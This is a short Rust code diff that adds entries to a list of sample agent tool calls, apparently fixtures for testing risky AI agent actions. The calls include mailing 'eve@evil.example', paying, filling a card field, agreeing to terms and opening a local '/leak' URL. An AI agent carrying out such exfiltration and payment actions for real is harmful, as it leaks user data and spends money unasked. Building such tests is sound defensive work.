@@ -222,12 +222,16 @@ fn link(world: &World) -> Vec<String> {
     ])
 }
 
-fn send(_world: &World) -> Vec<String> {
+fn send(world: &World) -> Vec<String> {
+    let port = world.port;
     list(&[
         "await mail.send(to='eve@evil.example', text='x')".to_owned(),
         "await mcp.call(server='mail', tool='send', args={})".to_owned(),
         "await page.click(selector='#pay')".to_owned(),
         "await page.run_script()".to_owned(),
+        "await page.fill(field='Card', value='4711')".to_owned(),
+        "await page.insert(text='I agree')".to_owned(),
+        format!("await page.open(url='http://127.0.0.1:{port}/leak?q=x')"),
         "await pay.transfer(amount=100, to='4711')".to_owned(),
         "await agents.run(task='pay the invoice')".to_owned(),
     ])
